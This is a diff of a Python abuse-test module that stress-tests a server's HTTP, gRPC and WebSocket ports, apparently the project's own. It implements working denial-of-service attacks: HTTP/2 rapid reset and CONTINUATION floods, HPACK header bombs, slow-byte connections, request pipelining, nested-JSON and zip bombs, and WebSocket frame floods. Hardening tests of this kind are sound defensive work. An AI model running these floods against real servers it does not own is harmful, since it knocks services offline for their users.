@@ -1,6 +1,6 @@
-"""What a stranger can do to a server without knowing anybody: each for a while, on real ports.
+"""Attacks that need no credentials, each for some seconds on real ports.
 
-An attack gives how much it did. Connections that the server breaks are part of it.
+An attack returns how many requests, frames or connections it sent. The server may close its connections.
 """
 
 from __future__ import annotations
@@ -20,7 +20,7 @@ from tests.abuse import h2
 from dragoman.core.task import frames
 
 Attack = Callable[[str, str, float], Awaitable[int]]
-"""HTTP's address, gRPC's address, seconds."""
+"""Arguments: HTTP address, gRPC address, seconds."""
 
 BROKEN: Final = (ConnectionError, asyncio.IncompleteReadError, TimeoutError)
 LIST: Final = "/lf.a2a.v1.A2AService/ListTasks"
@@ -32,110 +32,110 @@ async def _connect(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWr
     return await asyncio.open_connection(host, int(port))
 
 
-async def _swallow(reader: asyncio.StreamReader) -> None:
-    """Takes what comes, so that nobody waits for us."""
+async def _discard(reader: asyncio.StreamReader) -> None:
+    """Reads and discards everything, so the server never waits for this client."""
     with suppress(*BROKEN):
         while await reader.read(1 << 16):
             pass
 
 
-async def _over_h2(address: str, seconds: float, created: Callable[[int], bytes], *, sink: bool = True) -> int:
-    """Sends what `made` makes of a number, again and again, on a new connection whenever the server breaks
-    one.
-    """
+async def _over_h2(address: str, seconds: float, frames_of: Callable[[int], bytes], *, reads: bool = True) -> int:
+    """Sends `frames_of(0)`, `frames_of(1)` and so on. Reconnects when the server closes the connection."""
     until, count = time.monotonic() + seconds, 0
     while time.monotonic() < until:
-        taking, writer = None, None
+        discard_task, writer = None, None
         with suppress(*BROKEN):
             reader, writer = await h2.connect(address)
-            taking = asyncio.create_task(_swallow(reader)) if sink else None
+            discard_task = asyncio.create_task(_discard(reader)) if reads else None
             number = 0
-            while time.monotonic() < until and not (taking and taking.done()):
-                writer.write(b"".join(created(number + one) for one in range(50)))
+            while time.monotonic() < until and not (discard_task and discard_task.done()):
+                writer.write(b"".join(frames_of(number + offset) for offset in range(50)))
                 number += 50
                 count += 50
                 await asyncio.wait_for(writer.drain(), 1)
         if writer is not None:
             writer.transport.abort()
-        if taking is not None:
-            await taking
+        if discard_task is not None:
+            await discard_task
     return count
 
 
 # HTTP/2 -----------------------------------------------------------------------------------------------------------
 
 
-async def rapid_reset(http: str, at_grpc: str, seconds: float) -> int:
-    """Calls that are taken back as soon as they are made (CVE-2023-44487)."""
+async def rapid_reset(http: str, grpc_address: str, seconds: float) -> int:
+    """Calls that are reset immediately (CVE-2023-44487)."""
     head = h2.call(LIST)
 
-    def created(number: int) -> bytes:
+    def frames_of(number: int) -> bytes:
         stream = 2 * number + 1
         return h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head) + h2.frame(h2.RESET, 0, stream, struct.pack("!I", 8))
 
-    return sum(await asyncio.gather(*(_over_h2(at_grpc, seconds, created) for _ in range(4))))
+    return sum(await asyncio.gather(*(_over_h2(grpc_address, seconds, frames_of) for _ in range(4))))
 
 
-async def stream_flood(http: str, at_grpc: str, seconds: float) -> int:
-    """Calls that are begun and never completed, as many as a connection takes and more."""
+async def stream_flood(http: str, grpc_address: str, seconds: float) -> int:
+    """Incomplete calls, more than a connection allows."""
     head = h2.call(LIST)
     return sum(
         await asyncio.gather(
             *(
-                _over_h2(at_grpc, seconds, lambda number: h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * number + 1, head))
+                _over_h2(
+                    grpc_address, seconds, lambda number: h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * number + 1, head)
+                )
                 for _ in range(4)
             )
         )
     )
 
 
-async def watch_flood(http: str, at_grpc: str, seconds: float) -> int:
-    """Streams of health that never end, which need no credentials."""
+async def watch_flood(http: str, grpc_address: str, seconds: float) -> int:
+    """Health streams, which never end and need no credentials."""
     head, body = h2.call(WATCH), bytes(5)
 
-    def created(number: int) -> bytes:
+    def frames_of(number: int) -> bytes:
         stream = 2 * number + 1
         return h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head) + h2.frame(h2.DATA, h2.END_STREAM, stream, body)
 
-    return sum(await asyncio.gather(*(_over_h2(at_grpc, seconds, created) for _ in range(4))))
+    return sum(await asyncio.gather(*(_over_h2(grpc_address, seconds, frames_of) for _ in range(4))))
 
 
-async def continuation_flood(http: str, at_grpc: str, seconds: float) -> int:
-    """Headers that go on and on (CVE-2024-27316)."""
-    piece = h2.literal(b"x", b"y" * 1000)
+async def continuation_flood(http: str, grpc_address: str, seconds: float) -> int:
+    """Endless headers (CVE-2024-27316)."""
+    header = h2.literal(b"x", b"y" * 1000)
 
-    def created(number: int) -> bytes:
+    def frames_of(number: int) -> bytes:
         kind = h2.CONTINUATION if number else h2.HEADERS
-        return h2.frame(kind, 0, 1, piece)
+        return h2.frame(kind, 0, 1, header)
 
-    return await _over_h2(at_grpc, seconds, created)
+    return await _over_h2(grpc_address, seconds, frames_of)
 
 
-async def header_bomb(http: str, at_grpc: str, seconds: float) -> int:
-    """A large header, put into the server's table once and named a thousand times in each call (CVE-2016-6581)."""
+async def header_bomb(http: str, grpc_address: str, seconds: float) -> int:
+    """A large header in the server's table, referenced a thousand times in each call (CVE-2016-6581)."""
     big = h2.indexed(b"x-bomb", b"y" * 3900)
 
-    def created(number: int) -> bytes:
+    def frames_of(number: int) -> bytes:
         head = h2.call(LIST) + (b"" if number else big) + b"\xbe" * 1000
         return h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * number + 1, head)
 
-    return await _over_h2(at_grpc, seconds, created)
+    return await _over_h2(grpc_address, seconds, frames_of)
 
 
-async def ping_flood(http: str, at_grpc: str, seconds: float) -> int:
-    """Pings, settings and empty frames, whose answers nobody takes (CVE-2019-9512, 9515, 9518)."""
+async def ping_flood(http: str, grpc_address: str, seconds: float) -> int:
+    """Pings, settings and window updates, whose responses are not read (CVE-2019-9512, 9515, 9518)."""
     noise = (
         h2.frame(h2.PING, 0, 0, bytes(8)) + h2.frame(h2.SETTINGS, 0, 0) + h2.frame(h2.WINDOW, 0, 0, bytes((0, 0, 0, 1)))
     )
-    return await _over_h2(at_grpc, seconds, lambda _: noise, sink=False)
+    return await _over_h2(grpc_address, seconds, lambda _: noise, reads=False)
 
 
-async def half_open(http: str, at_grpc: str, seconds: float) -> int:
-    """Connections to both ports that say nothing."""
+async def half_open(http: str, grpc_address: str, seconds: float) -> int:
+    """Silent connections to both ports."""
     writers = set()
     for number in range(600):
         with suppress(*BROKEN):
-            writers.add((await _connect(at_grpc if number % 2 else http))[1])
+            writers.add((await _connect(grpc_address if number % 2 else http))[1])
     await asyncio.sleep(seconds)
     for writer in writers:
         writer.transport.abort()
@@ -145,13 +145,13 @@ async def half_open(http: str, at_grpc: str, seconds: float) -> int:
 # HTTP/1 -----------------------------------------------------------------------------------------------------------
 
 
-async def _each_a_byte(http: str, seconds: float, begin: bytes) -> int:
-    """Connections that begin so, and send a byte now and then."""
+async def _trickle(http: str, seconds: float, start: bytes) -> int:
+    """Opens connections that send `start`, then one byte every 0.1 s."""
     writers = []
     for _ in range(300):
         with suppress(*BROKEN):
             writer = (await _connect(http))[1]
-            writer.write(begin)
+            writer.write(start)
             writers.append(writer)
     until, count = time.monotonic() + seconds, len(writers)
     while time.monotonic() < until:
@@ -164,21 +164,21 @@ async def _each_a_byte(http: str, seconds: float, begin: bytes) -> int:
     return count
 
 
-async def slow_heads(http: str, at_grpc: str, seconds: float) -> int:
-    """Requests whose heads come a byte at a time."""
-    return await _each_a_byte(http, seconds, b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ")
+async def slow_heads(http: str, grpc_address: str, seconds: float) -> int:
+    """Requests whose heads are sent byte by byte."""
+    return await _trickle(http, seconds, b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ")
 
 
-async def slow_bodies(http: str, at_grpc: str, seconds: float) -> int:
-    """Requests whose bodies come a byte at a time."""
+async def slow_bodies(http: str, grpc_address: str, seconds: float) -> int:
+    """Requests whose bodies are sent byte by byte."""
     head = (
         b"POST /message:send HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 16000000\r\n\r\n"
     )
-    return await _each_a_byte(http, seconds, head + b'{"')
+    return await _trickle(http, seconds, head + b'{"')
 
 
-async def _again(http: str, seconds: float, data: bytes, callers: int = 4) -> int:
-    """Says something on one connection after another, and takes what comes back."""
+async def _repeat(http: str, seconds: float, data: bytes, callers: int = 4) -> int:
+    """Sends `data` on one connection after another, and reads the responses."""
 
     async def caller() -> int:
         until, count = time.monotonic() + seconds, 0
@@ -195,22 +195,22 @@ async def _again(http: str, seconds: float, data: bytes, callers: int = 4) -> in
     return sum(await asyncio.gather(*(caller() for _ in range(callers))))
 
 
-async def large_heads(http: str, at_grpc: str, seconds: float) -> int:
-    """Headers larger than are taken, and more of them."""
+async def large_heads(http: str, grpc_address: str, seconds: float) -> int:
+    """Headers over the limits of size and number."""
     lines = b"".join(b"X-%d: %b\r\n" % (number, b"y" * 15000) for number in range(90))
-    return await _again(http, seconds, b"GET / HTTP/1.1\r\nHost: a\r\n" + lines + b"\r\n")
+    return await _repeat(http, seconds, b"GET / HTTP/1.1\r\nHost: a\r\n" + lines + b"\r\n")
 
 
-async def pipelined(http: str, at_grpc: str, seconds: float) -> int:
-    """Thousands of requests in one go, whose answers nobody takes."""
-    lot = b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n" * 2000
+async def pipelined(http: str, grpc_address: str, seconds: float) -> int:
+    """Thousands of pipelined requests, whose responses are not read."""
+    batch = b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n" * 2000
     writers, count = [], 0
     until = time.monotonic() + seconds
     writers += [(await _connect(http))[1] for _ in range(8)]
     while time.monotonic() < until:
         for writer in writers:
-            if writer.transport.get_write_buffer_size() < len(lot):
-                writer.write(lot)
+            if writer.transport.get_write_buffer_size() < len(batch):
+                writer.write(batch)
                 count += 2000
         await asyncio.sleep(0.01)
     for writer in writers:
@@ -218,11 +218,11 @@ async def pipelined(http: str, at_grpc: str, seconds: float) -> int:
     return count
 
 
-async def tiny_chunks(http: str, at_grpc: str, seconds: float) -> int:
+async def tiny_chunks(http: str, grpc_address: str, seconds: float) -> int:
     """A body of chunks of one byte."""
     head = b"POST /message:send HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
     head += b"Transfer-Encoding: chunked\r\n\r\n"
-    return await _again(http, seconds, head + b"1\r\n \r\n" * 200_000 + b"0\r\n\r\n")
+    return await _repeat(http, seconds, head + b"1\r\n \r\n" * 200_000 + b"0\r\n\r\n")
 
 
 # JSON -------------------------------------------------------------------------------------------------------------
@@ -243,29 +243,29 @@ def _message(part: str) -> bytes:
 MEBI: Final = 1 << 20
 
 
-async def deep_json(http: str, at_grpc: str, seconds: float) -> int:
+async def deep_json(http: str, grpc_address: str, seconds: float) -> int:
     """Fifteen million opening brackets."""
-    return await _again(http, seconds, _post(b"[" * (15 * MEBI)))
+    return await _repeat(http, seconds, _post(b"[" * (15 * MEBI)))
 
 
-async def deep_objects(http: str, at_grpc: str, seconds: float) -> int:
-    """A part whose data nests as deep as the reader goes."""
-    return await _again(http, seconds, _post(_message('{"data":' + '{"a":' * 240 + "1" + "}" * 240 + "}")))
+async def deep_objects(http: str, grpc_address: str, seconds: float) -> int:
+    """A part whose data nests as deep as the parser allows."""
+    return await _repeat(http, seconds, _post(_message('{"data":' + '{"a":' * 240 + "1" + "}" * 240 + "}")))
 
 
-async def many_values(http: str, at_grpc: str, seconds: float) -> int:
+async def many_values(http: str, grpc_address: str, seconds: float) -> int:
     """Seven million numbers in one part."""
-    return await _again(http, seconds, _post(_message('{"data":[' + "0," * (7 * MEBI) + "0]}")), callers=2)
+    return await _repeat(http, seconds, _post(_message('{"data":[' + "0," * (7 * MEBI) + "0]}")), callers=2)
 
 
-async def many_parts(http: str, at_grpc: str, seconds: float) -> int:
+async def many_parts(http: str, grpc_address: str, seconds: float) -> int:
     """A million parts."""
-    return await _again(http, seconds, _post(_message('{"text":"a"},' * MEBI + '{"text":"a"}')), callers=2)
+    return await _repeat(http, seconds, _post(_message('{"text":"a"},' * MEBI + '{"text":"a"}')), callers=2)
 
 
-async def suspicious_json(http: str, at_grpc: str, seconds: float) -> int:
-    """Fifteen megabytes that look as if they repeated a key, so that they are read twice."""
-    return await _again(
+async def suspicious_json(http: str, grpc_address: str, seconds: float) -> int:
+    """Fifteen megabytes that seem to repeat a key, so the server parses them twice."""
+    return await _repeat(
         http, seconds, _post(_message('{"data":{' + '"\\u0061":1,' * (MEBI + 200_000) + '"b":2}}')), callers=2
     )
 
@@ -285,35 +285,35 @@ async def _over_grpc(address: str, seconds: float, path: str, request: bytes) ->
     return count
 
 
-async def grpc_values(http: str, at_grpc: str, seconds: float) -> int:
+async def grpc_values(http: str, grpc_address: str, seconds: float) -> int:
     """Four million values in one part, over gRPC."""
     value = _field(6, _field(1, b"\x08\x00") * (3 * MEBI))  # Value.list_value of null values
     part = _field(4, value)  # Part.data
     request = _field(2, _field(1, b"m") + b"\x20\x01" + _field(5, part))
-    return await _over_grpc(at_grpc, seconds, "/lf.a2a.v1.A2AService/SendMessage", request)
+    return await _over_grpc(grpc_address, seconds, "/lf.a2a.v1.A2AService/SendMessage", request)
 
 
-async def grpc_parts(http: str, at_grpc: str, seconds: float) -> int:
-    """Three million parts, over gRPC, in both generations."""
+async def grpc_parts(http: str, grpc_address: str, seconds: float) -> int:
+    """Three million parts, over gRPC, in both packages."""
     old = _field(1, _field(1, b"m") + b"\x20\x01" + _field(5, _field(1, b"a")) * (3 * MEBI))
     new = _field(2, _field(1, b"m") + b"\x20\x01" + _field(5, _field(1, b"a")) * (3 * MEBI))
-    return await _over_grpc(at_grpc, seconds / 2, "/a2a.v1.A2AService/SendMessage", old) + await _over_grpc(
-        at_grpc, seconds / 2, "/lf.a2a.v1.A2AService/SendMessage", new
+    return await _over_grpc(grpc_address, seconds / 2, "/a2a.v1.A2AService/SendMessage", old) + await _over_grpc(
+        grpc_address, seconds / 2, "/lf.a2a.v1.A2AService/SendMessage", new
     )
 
 
-async def base64_bomb(http: str, at_grpc: str, seconds: float) -> int:
-    """Sixteen megabytes of base64, and as much that is none."""
-    good = _post(_message('{"raw":"' + "A" * (15 * MEBI) + '"}'))
-    bad = _post(_message('{"raw":"' + "A" * (15 * MEBI) + '!"}'))
-    return sum(await asyncio.gather(_again(http, seconds, good, 1), _again(http, seconds, bad, 1)))
+async def base64_bomb(http: str, grpc_address: str, seconds: float) -> int:
+    """Sixteen megabytes of valid base64, and as much invalid."""
+    valid = _post(_message('{"raw":"' + "A" * (15 * MEBI) + '"}'))
+    invalid = _post(_message('{"raw":"' + "A" * (15 * MEBI) + '!"}'))
+    return sum(await asyncio.gather(_repeat(http, seconds, valid, 1), _repeat(http, seconds, invalid, 1)))
 
 
-async def zip_bomb(http: str, at_grpc: str, seconds: float) -> int:
-    """256 MiB of zeros, packed a thousand times smaller."""
-    packer = zlib.compressobj(9, wbits=31)
-    packed = b"".join([packer.compress(bytes(MEBI)) for _ in range(256)] + [packer.flush()])
-    return await _again(http, seconds, _post(packed, "Content-Encoding: gzip"), callers=2)
+async def zip_bomb(http: str, grpc_address: str, seconds: float) -> int:
+    """256 MiB of zeros, compressed to a thousandth."""
+    compressor = zlib.compressobj(9, wbits=31)
+    compressed = b"".join([compressor.compress(bytes(MEBI)) for _ in range(256)] + [compressor.flush()])
+    return await _repeat(http, seconds, _post(compressed, "Content-Encoding: gzip"), callers=2)
 
 
 # WebSocket --------------------------------------------------------------------------------------------------------
@@ -325,11 +325,11 @@ _UPGRADE: Final = (
 
 
 def ws_frame(
-    opcode: int, payload: bytes, *, final: bool = True, packed: bool = False, claims: int | None = None
+    opcode: int, payload: bytes, *, final: bool = True, compressed: bool = False, declared_size: int | None = None
 ) -> bytes:
-    """A frame with a mask of zeros. `claims`: the length that it says."""
-    size = len(payload) if claims is None else claims
-    head = bytes((opcode | (0x80 if final else 0) | (0x40 if packed else 0),))
+    """Returns a frame masked with zeros. `declared_size`: the length in its header, if not the actual one."""
+    size = len(payload) if declared_size is None else declared_size
+    head = bytes((opcode | (0x80 if final else 0) | (0x40 if compressed else 0),))
     if size < 126:
         head += bytes((0x80 | size,))
     elif size < 1 << 16:
@@ -339,58 +339,59 @@ def ws_frame(
     return head + bytes(4) + payload
 
 
-async def _over_ws(http: str, seconds: float, lot: bytes, *, extension: str = "", sockets: int = 4) -> int:
-    async def one() -> int:
+async def _over_ws(http: str, seconds: float, data: bytes, *, extension: str = "", sockets: int = 4) -> int:
+    async def client() -> int:
         until, count = time.monotonic() + seconds, 0
         while time.monotonic() < until:
             with suppress(*BROKEN):
                 reader, writer = await _connect(http)
                 writer.write(_UPGRADE + (extension and f"Sec-WebSocket-Extensions: {extension}\r\n").encode() + b"\r\n")
                 await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
-                taking = asyncio.create_task(_swallow(reader))
-                while time.monotonic() < until and not taking.done():
-                    writer.write(lot)
+                discard_task = asyncio.create_task(_discard(reader))
+                while time.monotonic() < until and not discard_task.done():
+                    writer.write(data)
                     count += 1
                     await asyncio.wait_for(writer.drain(), 5)
                 writer.transport.abort()
-                await taking
+                await discard_task
         return count
 
-    return sum(await asyncio.gather(*(one() for _ in range(sockets))))
+    return sum(await asyncio.gather(*(client() for _ in range(sockets))))
 
 
-async def ws_tiny_frames(http: str, at_grpc: str, seconds: float) -> int:
-    """Calls that are none, a thousand at a time."""
+async def ws_tiny_frames(http: str, grpc_address: str, seconds: float) -> int:
+    """Invalid calls, a thousand at a time."""
     return 1000 * await _over_ws(http, seconds, ws_frame(1, b"{}") * 1000)
 
 
-async def ws_pings(http: str, at_grpc: str, seconds: float) -> int:
+async def ws_pings(http: str, grpc_address: str, seconds: float) -> int:
     """Pings, a thousand at a time."""
     return 1000 * await _over_ws(http, seconds, ws_frame(9, b"x" * 100) * 1000)
 
 
-async def ws_giant_frame(http: str, at_grpc: str, seconds: float) -> int:
-    """A frame that says it has a terabyte, and begins to send it."""
-    return await _over_ws(http, seconds, ws_frame(1, bytes(MEBI), claims=1 << 40))
+async def ws_giant_frame(http: str, grpc_address: str, seconds: float) -> int:
+    """The start of a frame with a declared size of a terabyte."""
+    return await _over_ws(http, seconds, ws_frame(1, bytes(MEBI), declared_size=1 << 40))
 
 
-async def ws_fragments(http: str, at_grpc: str, seconds: float) -> int:
-    """A message in pieces that never ends, most of them empty."""
-    lot = ws_frame(1, b"[", final=False) + ws_frame(0, b"", final=False) * 1000
-    return 1000 * await _over_ws(http, seconds, lot)
+async def ws_fragments(http: str, grpc_address: str, seconds: float) -> int:
+    """An endless message of mostly empty fragments."""
+    fragments = ws_frame(1, b"[", final=False) + ws_frame(0, b"", final=False) * 1000
+    return 1000 * await _over_ws(http, seconds, fragments)
 
 
-async def ws_zip_bomb(http: str, at_grpc: str, seconds: float) -> int:
-    """A packed message that unpacks to 256 MiB."""
-    packer = zlib.compressobj(9, wbits=-15)
-    packed = b"".join([packer.compress(bytes(MEBI)) for _ in range(256)] + [packer.flush(zlib.Z_SYNC_FLUSH)])
-    return await _over_ws(
-        http, seconds, ws_frame(1, packed.removesuffix(b"\0\0\xff\xff"), packed=True), extension="permessage-deflate"
+async def ws_zip_bomb(http: str, grpc_address: str, seconds: float) -> int:
+    """A compressed message of 256 MiB."""
+    compressor = zlib.compressobj(9, wbits=-15)
+    compressed = b"".join(
+        [compressor.compress(bytes(MEBI)) for _ in range(256)] + [compressor.flush(zlib.Z_SYNC_FLUSH)]
     )
+    frame = ws_frame(1, compressed.removesuffix(b"\0\0\xff\xff"), compressed=True)
+    return await _over_ws(http, seconds, frame, extension="permessage-deflate")
 
 
-async def ws_bad_text(http: str, at_grpc: str, seconds: float) -> int:
-    """Large calls that are no JSON-RPC."""
+async def ws_bad_text(http: str, grpc_address: str, seconds: float) -> int:
+    """Large calls of an unknown method."""
     text = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "x", "params": {"a": "b" * MEBI}}).encode()
     return await _over_ws(http, seconds, ws_frame(1, text))
 
@@ -416,9 +417,9 @@ ATTACKS: Final[dict[str, Attack]] = {
 }
 
 
-async def main(name: str, http: str, at_grpc: str, seconds: str) -> None:
-    """One attack, in a process of its own."""
-    print(await ATTACKS[name](http, at_grpc, float(seconds)))
+async def main(name: str, http: str, grpc_address: str, seconds: str) -> None:
+    """Runs one attack and prints what it returns."""
+    print(await ATTACKS[name](http, grpc_address, float(seconds)))
 
 
 if __name__ == "__main__":
